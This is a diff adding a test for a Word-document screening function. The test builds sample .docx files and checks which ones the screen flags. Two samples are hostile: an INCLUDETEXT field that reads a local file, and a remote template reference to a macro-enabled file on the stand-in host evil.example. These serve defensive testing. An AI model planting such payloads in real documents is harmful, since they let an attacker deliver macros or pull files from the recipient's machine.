@@ -1245,3 +1245,26 @@ def test_macros_in_a_word_template_never_reach_the_document(tmp_path):
     if out.exists():
         with zipfile.ZipFile(out) as z:
             assert not [n for n in z.namelist() if "vba" in n.lower()]
+
+
+def test_the_word_screen_reads_attributes_in_either_quote_and_fields_in_any_case():
+    """`w:instr='INCLUDETEXT …'` and `TargetMode='External'` (single quotes) passed the screen; a
+    page number written `page` was refused."""
+    import io
+
+    from kehoach.outputs.render import active_content
+
+    def docx(document: bytes, rels: bytes = b"") -> bytes:
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w") as z:
+            z.writestr("word/document.xml", document)
+            if rels:
+                z.writestr("word/_rels/document.xml.rels", rels)
+        return out.getvalue()
+
+    assert active_content(docx(b"<w:fldSimple w:instr='INCLUDETEXT \"c:/x.docx\"'/>")) is not None
+    assert active_content(docx(b"<w:p/>", b"<Relationship Id='r1' Type='http://x/attachedTemplate' "
+                                         b"Target='http://evil.example/t.dotm' TargetMode='External'/>")) is not None
+    assert active_content(docx(b"<w:instrText xml:space='preserve'> page </w:instrText>")) is None
+    assert active_content(docx(b"<w:p/>", b"<Relationship Id='r1' Type='http://x/hyperlink' "
+                                         b"Target='https://quangngai.gov.vn' TargetMode='External'/>")) is None
